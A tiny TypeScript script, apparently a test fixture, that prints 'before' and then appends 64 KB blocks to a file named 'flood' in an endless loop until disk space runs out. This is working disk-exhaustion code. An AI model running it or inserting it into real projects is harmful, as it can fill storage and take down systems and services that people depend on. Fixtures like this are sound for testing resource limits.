import { appendFileSync } from "node:fs";

console.log("before");
const block: string = "z".repeat(65536);
for (;;) appendFileSync("flood", block);
